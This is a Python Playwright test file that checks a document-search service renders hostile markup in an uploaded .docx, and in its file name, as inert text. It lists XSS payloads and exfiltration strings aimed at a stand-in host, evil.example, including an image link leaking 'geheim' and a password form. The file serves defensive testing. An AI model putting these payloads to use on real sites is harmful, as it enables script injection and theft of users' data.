"""Documents that hold markup and script, in their names too: every page shows them as text (B70 to B73)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from docx import Document
from playwright.sync_api import Dialog, expect
from playwright.sync_api import Page as Tab

from eval.indexing import ingested
from polycite.settings import Settings
from tests.browser.corpus_service import indexed, serving
from tests.browser.guard import Guard
from tests.browser.host import Host, Page
from tests.browser.widget import Widget

HOSTILE = (
    '<img src=x onerror="alert(1)">',
    "<script>alert(2)</script>",
    "[klik](javascript:alert(3))",
    "![foto](http://evil.example/?q=geheim)",
    "<style>body{display:none}</style>",
    '<form action="http://evil.example/"><input name=wachtwoord></form>',
    '<a href="http://evil.example/" ping="http://evil.example/">meer</a>',
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "</mark></blockquote></p><iframe src='http://evil.example/'></iframe>",
)
QUESTION = "Hoeveel dagen duurt het verlof voor een verhuizing?"
TEXT = (
    "Verlof <b>x</b>",
    f"Het verlof voor een verhuizing duurt 2 dagen {' '.join(HOSTILE)} en wordt aangevraagd bij de personeelsdienst.",
    "Wie op een zondag verhuist, krijgt het verlof op de werkdag die daarop volgt.",
)
NAME = "verlof <img src=x onerror=alert(4)>.docx"
_STRANGE = "main :is(img, iframe, object, embed, style, script, input[name=wachtwoord], form[action*=evil], [onerror])"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, site: Host) -> Iterator[str]:
    """A service on such a document alone."""
    corpus, data = tmp_path_factory.mktemp("corpus"), tmp_path_factory.mktemp("data")
    written = Document()
    for paragraph in TEXT:
        written.add_paragraph(paragraph)
    written.save(str(corpus / NAME))
    (data / "models").symlink_to((indexed() / "models").resolve(), target_is_directory=True)
    settings = ingested(corpus, Settings(data_dir=data), lambda _said: None)
    with serving(settings.data_dir, [site.url]) as url:
        yield url


@pytest.fixture
def tab(page: Tab, hostile: str, guard: Guard) -> Iterator[Tab]:
    """A tab in which no dialog may open; what it asks of others and what its policy stops, the guard sees."""
    guard.origins.add(hostile)
    opened: list[str] = []

    def seen(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", seen)
    yield page
    assert opened == []


def harmless(tab: Tab) -> None:
    """Nothing of a document became markup."""
    expect(tab.locator(_STRANGE)).to_have_count(0)
    expect(tab.locator("a[href^='javascript:'], a[href*='evil.example'], a[ping]")).to_have_count(0)
    expect(tab.locator("body")).to_be_visible()


def test_the_list_of_documents_shows_a_name_as_it_is(tab: Tab, hostile: str) -> None:
    tab.goto(f"{hostile}/documents")
    expect(tab.locator("main")).to_contain_text("onerror=alert(4)")
    harmless(tab)


def test_the_source_view_shows_all_of_it_as_words(tab: Tab, hostile: str) -> None:
    tab.goto(f"{hostile}/documents")
    tab.locator(".documents h2 a").click()
    for one in HOSTILE:
        expect(tab.locator(".view-words")).to_contain_text(one)
    harmless(tab)


def test_an_answer_quotes_it_as_words_and_leads_to_its_mark(tab: Tab, hostile: str) -> None:
    tab.goto(f"{hostile}/?lang=nl")
    tab.locator("#question").fill(QUESTION)
    tab.locator("#question").press("Enter")
    tab.wait_for_url("**/answers/**")
    expect(tab.locator("main")).to_contain_text(HOSTILE[0])
    harmless(tab)
    tab.locator("main a[href*='/view/']").first.click()
    expect(tab.locator(".view-words")).to_contain_text(HOSTILE[0])
    harmless(tab)


def test_the_widget_quotes_it_as_words(tab: Tab, hostile: str, host: Host) -> None:
    tab.goto(host.put(Page(hostile)))
    widget = Widget(tab).open().ask(QUESTION)
    expect(widget.part("turn")).to_contain_text(HOSTILE[0])
    expect(widget.element.locator("img, iframe, style, script, input[name=wachtwoord]")).to_have_count(0)
    harmless(tab)
